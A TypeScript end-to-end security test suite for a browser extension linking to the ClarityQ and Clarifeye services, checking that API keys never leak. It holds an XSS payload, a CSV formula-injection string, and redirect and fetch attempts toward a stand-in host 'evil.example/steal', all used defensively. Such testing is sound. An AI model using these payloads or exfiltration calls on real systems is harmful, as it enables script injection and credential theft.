import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FIXTURES } from '../../sandbox/sandbox.ts';
import {
  downloaded,
  expand,
  expectNoTraces,
  fill,
  freshConversation,
  importFile,
  reads,
} from '../acts.ts';
import type { ChromiumSession } from '../driver/chromium.ts';
import type { Tab } from '../driver/person.ts';
import { makeProfile, removeProfile } from '../driver/process.ts';
import { addresses, connectClarityq, eventually, openStage, press, type Stage } from '../stage.ts';
import { dump, filesWith, listen, overhear, seenIn } from './recorded.ts';

const { clarityq: cq, clarifeye: cf } = FIXTURES;
const KEYS = [cq.key, cf.tokens.member];
const EVIL = 'evil.example';
const MARKUP = '<img src=x onerror=window.pwned=1>';
const FORMULA = `=HYPERLINK("https://${EVIL}")${MARKUP}`;
const ASKED = ['connections', 'unsettled', 'notices', 'preferences', 'protection', 'policy'];

/** A reply with markup in every text that is not compared with what was sent. */
function marked(json: unknown): unknown {
  if (Array.isArray(json)) return json.map(marked);
  if (typeof json !== 'object' || json === null) return json;
  const put: Record<string, string> = {
    name: MARKUP,
    content: FORMULA,
    email: `${MARKUP}@x.example`,
    conversation_title: MARKUP,
    user_message: MARKUP,
  };
  return Object.fromEntries(
    Object.entries(json).map(([name, value]) => [
      name,
      typeof value === 'string' ? (put[name] ?? value) : marked(value),
    ]),
  );
}

describe('a hostile server gets a sentence, and no key leaves a trace', () => {
  let stage: Stage;
  let profileDir: string;
  let options: Tab;
  let tab: Tab;
  /** Everything that was shown, said or written in the whole run. */
  const recorded: string[] = [];

  const visit = async (address: string): Promise<void> => {
    recorded.push(await seenIn(tab));
    await tab.goto(address);
    await tab.evaluate(listen);
  };
  const isClean = async (page: Tab): Promise<void> => {
    expect(await page.evaluate('window.pwned')).toBeFalsy();
    expect(await page.evaluate('document.querySelectorAll("img, script:not([src])").length')).toBe(
      0,
    );
    recorded.push(await seenIn(page));
  };
  const altered = (host: string, change: (json: unknown) => unknown, method?: string) =>
    stage.sandbox.faults.add({
      host,
      ...(method ? { method } : {}),
      times: 100,
      when: 'before',
      do: { kind: 'alter', change },
    });

  beforeAll(async () => {
    const name = process.env.VERDICT_BROWSER === 'firefox' ? 'firefox' : 'chromium';
    profileDir = await makeProfile(name);
    stage = await openStage({ hosts: [EVIL], profileDir });
    options = await connectClarityq(stage);
    await options.evaluate(overhear);
    tab = await stage.browser.open('https://docs.clarityq.ai/');
  });
  beforeEach(() => stage.sandbox.faults.clear());
  afterAll(async () => {
    await stage?.close();
    await removeProfile(profileDir);
  });

  it('markup in the names of projects is text in Options', async () => {
    altered(cf.host, marked);
    await options.bringToFront();
    await press(options, 'Add Clarifeye connection');
    await fill(options, 'Name', 'People handbook');
    await fill(options, 'Access token', cf.tokens.member);
    await (await options.all('button', 'Test connection')).at(-1)?.click();
    await options.waitForStatus(/Accepted by Clarifeye/);
    const names = await options.evaluate<string[]>(
      '[...document.querySelectorAll("option")].map((option) => option.textContent)',
    );
    expect(names).toContain(MARKUP);
    await press(options, 'Save');
    await options.find('listitem', /^People handbook/);
    await isClean(options);
  });

  it('markup in every text of a conversation and of a row is text in the panel and the popup', async () => {
    altered(cf.host, marked);
    await tab.bringToFront();
    await visit(addresses.clarifeye(cf.conversations.leave));
    await expand(tab);
    await reads(tab, FORMULA);
    await press(tab, 'Good answer');
    await reads(tab, `Stored in Clarifeye as ${MARKUP}@x.example at`);
    expect(await tab.evaluate('window.pwned')).toBeFalsy();
    const popup = await stage.browser.popup(tab);
    await reads(popup, MARKUP);
    await isClean(popup);
    await popup.close();
  });

  it('a complaint with markup and the key: shown as text, without the key', async () => {
    const id = freshConversation(stage.sandbox, 'Complaint');
    const body = { detail: `${MARKUP} Key ${cq.key} is not welcome` };
    const { faults } = stage.sandbox;
    faults.add({ method: 'PUT', when: 'before', do: { kind: 'status', status: 422, body } });
    await visit(addresses.clarityq(id));
    await press(tab, 'Good answer');
    await reads(tab, `ClarityQ did not accept it: ${MARKUP} Key … is not welcome`);
    recorded.push(await seenIn(tab));
    await press(tab, 'Discard');
  });

  it('a server that lies about what it stored is found out', async () => {
    const id = freshConversation(stage.sandbox, 'Flipped');
    const flipped = altered(
      cq.apiHost,
      (json) => ({ ...(json as object), rating: 'NEGATIVE' }),
      'PUT',
    );
    await visit(addresses.clarityq(id));
    await press(tab, 'Good answer');
    await reads(tab, /Stored differently: /);
    flipped.disarm();
    altered(
      cq.apiHost,
      (json) => ({ ...(json as object), conversation_id: cq.unknownConversation }),
      'PUT',
    );
    await visit(addresses.clarityq(freshConversation(stage.sandbox, 'Elsewhere')));
    await press(tab, 'Good answer');
    await reads(tab, /Stored differently: /);
  });

  it('a redirect to another origin, whatever its kind: the other gets nothing', async () => {
    await visit(addresses.clarityq(freshConversation(stage.sandbox, 'Redirected')));
    await tab.find('button', 'Good answer');
    const before = stage.sandbox.requests.filter(({ host }) => host === cf.host).length;
    let next = 'Bad answer';
    for (const [status, to] of [
      [301, `https://${EVIL}/steal`],
      [302, `https://${EVIL}/steal`],
      [307, `https://${cf.host}/api/v1/projects/`],
      [308, `https://${EVIL}/steal`],
    ] as const) {
      const { faults } = stage.sandbox;
      const armed = faults.add({
        method: 'PUT',
        when: 'before',
        do: { kind: 'redirect', status, to },
      });
      await press(tab, next);
      await eventually(
        () => armed.hits,
        (hits) => hits === 1,
      );
      await reads(tab, 'ClarityQ sent Verdict to another address, and keys never follow.');
      next = 'Try again';
    }
    await press(tab, 'Discard');
    expect(stage.sandbox.requests.filter(({ host }) => host === EVIL)).toEqual([]);
    expect(stage.browser.reached).not.toContain(EVIL);
    expect(stage.sandbox.requests.filter(({ host }) => host === cf.host)).toHaveLength(before);
  });

  it('the browser itself lets the extension ask nobody but the vendors', async () => {
    const asked = await options.evaluate<string, [string]>(
      (address) =>
        fetch(address).then(
          () => 'reached',
          () => 'refused',
        ),
      `https://${EVIL}/steal`,
    );
    expect(asked).toBe('refused');
    if (stage.browser.name === 'chromium') {
      // Keys are in the worker alone; Firefox lets nobody into it from outside.
      const worker = stage.browser as ChromiumSession;
      const stolen = `fetch('https://${EVIL}/steal').then(() => 'reached', () => 'refused')`;
      expect(await worker.evaluateInWorker(stolen)).toBe('refused');
    }
    expect(stage.browser.reached).not.toContain(EVIL);
  });

  it('all of it is text in the history, and no formula in its table', async () => {
    const history = await stage.browser.open(stage.browser.extensionPage('journal.html'));
    await reads(history, FORMULA);
    await press(history, 'Export CSV');
    await press(history, 'Export JSON');
    const files = await eventually(
      async () =>
        (await readdir(stage.browser.downloadDir)).filter((name) => !/\.part|\.crd/.test(name)),
      (found) => found.length === 2,
    );
    for (const name of files) {
      const text = await eventually(
        () => readFile(join(stage.browser.downloadDir, name), 'utf8'),
        (written) => written.length > 0,
      );
      recorded.push(text);
      if (name.endsWith('.csv')) expect(text).toContain(`"'=HYPERLINK`);
      else expect(JSON.parse(text).entries.length).toBeGreaterThan(3);
    }
    await isClean(history);
    await history.close();
  });

  it('diagnostics, exported settings and an import are recorded, too', async () => {
    await options.bringToFront();
    await options.goto(stage.browser.extensionPage('options.html#privacy'));
    await press(options, 'Copy diagnostics');
    await options.waitForStatus('This is what was copied.');
    recorded.push((await options.find('textbox', 'Diagnostics')).value ?? '');
    await press(options, 'Export settings');
    const text = await downloaded(stage, /^verdict-settings-/);
    expect(JSON.parse(text).connections.length).toBeGreaterThan(0);
    recorded.push(text);
    const settings = JSON.parse(text);
    settings.connections[0].key = cq.key;
    settings.preferences.watchMinutes = 7;
    await importFile(options, JSON.stringify(settings));
    await reads(options, 'Keys in the file are not taken over: enter them here.');
    await press(options, 'Import');
    await options.waitForStatus('Imported.');
  });

  it('no key stands in any page, event, message, store, reply, export, address or console', async () => {
    await tab.bringToFront();
    // What happens in the panel the page does not hear of; this it does.
    await tab.mouse.click(30, 300);
    recorded.push(await seenIn(tab), await seenIn(options));
    await options.bringToFront();
    recorded.push(
      await options.evaluate(
        dump,
        ASKED.map((kind) => ({ kind })),
      ),
    );
    recorded.push(JSON.stringify(stage.browser.console), stage.browser.reached.join());
    for (const one of await stage.browser.tabs()) recorded.push(await one.url());
    const all = recorded.join('\n');
    const known = [
      'Retail analytics',
      'did not accept it',
      '"kind":"rate"',
      'mousedown ',
      cq.apiHost,
    ];
    expect(known.filter((text) => !all.includes(text))).toEqual([]);
    const secrets = KEYS.flatMap((key) => [key, btoa(key)]);
    const leaks = recorded.flatMap((text) =>
      secrets
        .filter((secret) => text.includes(secret))
        .map((secret) => {
          const at = text.indexOf(secret);
          return text.slice(Math.max(0, at - 100), at + 60);
        }),
    );
    expect(leaks).toEqual([]);
  });

  it('each key travelled in its own header, to its own server, and nowhere else', () => {
    const sent = stage.sandbox.requests.flatMap(({ host, path, headers, body }) =>
      [...Object.entries(headers), ['path', path], ['body', body]]
        .filter(([, value]) => KEYS.some((key) => String(value).includes(key)))
        .map(([name]) => `${host} ${name}`),
    );
    expect([...new Set(sent)].sort()).toEqual(
      [`${cq.apiHost} x-api-key`, `${cf.host} authorization`].sort(),
    );
    // Browsers have business of their own, which they go about even when told not to.
    const vendors =
      /(^|\.)(clarityq\.ai|clarifeye\.ai|clarifeye\.io|google\.com|googleapis\.com|mozilla\.(org|com|net))$/;
    expect(stage.browser.reached.filter((host) => !vendors.test(host))).toEqual([]);
    // Chromium says that it refused what was tried above.
    const { console: lines } = stage.browser;
    const others = lines.filter(({ text }) => !text.includes(`${EVIL}/steal`));
    lines.splice(0, lines.length, ...others);
    expectNoTraces(stage);
  });

  it('and no file of the profile holds one, once the browser has closed', async () => {
    await stage.browser.close();
    await writeFile(join(profileDir, 'control'), `before ${cq.key} after`);
    expect(filesWith(profileDir, cq.key)).toEqual([join(profileDir, 'control')]);
    expect(filesWith(profileDir, cf.tokens.member)).toEqual([]);
  });
});
